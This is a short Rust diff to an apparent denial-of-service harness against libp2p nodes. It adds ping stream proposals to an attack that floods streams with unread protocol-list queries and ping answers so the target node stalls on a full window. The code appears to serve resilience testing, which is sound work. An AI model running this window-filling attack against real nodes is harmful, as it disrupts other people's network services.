@@ -9,7 +9,7 @@ use tokio::time::timeout;
 
 use super::{LIMITED, source};
 use crate::figures::Unread;
-use crate::libp2p::{self, DATA, SYN, frame};
+use crate::libp2p::{self, DATA, PING, SYN, frame};
 use crate::node_under_attack::Start;
 use crate::siege::{Aim, Counts, besiege};
 use crate::{Outcome, Setting};
@@ -20,6 +20,9 @@ const WINDOW: usize = 256 << 10;
 /// Questions for the list of protocols. The answers fill the attacker's window, because it reads nothing, so that the node waits
 /// there and does not read on.
 const QUESTIONS: usize = 4_000;
+
+/// The number of the last of the two streams that ping. A peer may have two such streams.
+const PINGING: u32 = 3;
 
 /// One-byte frames per write.
 const BATCH: usize = 4_096;
@@ -71,9 +74,12 @@ async fn fill(aim: &Aim, streams: u32) -> Result<()> {
     let header = libp2p::message("/multistream/1.0.0");
     let questions = libp2p::message("ls").repeat(QUESTIONS);
     let opening = [header, questions].concat();
+    let pings = libp2p::proposal(PING);
     let numbers: Vec<u32> = (0..streams).map(|n| 2 * n + 1).collect();
     for number in &numbers {
-        send(&frame(DATA, SYN, *number, &opening)).await?;
+        // The answers to pings fill the window, too.
+        let said = if *number <= PINGING { &pings } else { &opening };
+        send(&frame(DATA, SYN, *number, said)).await?;
     }
     Counts::raise(&aim.counts.streams, numbers.len());
     let frames = numbers
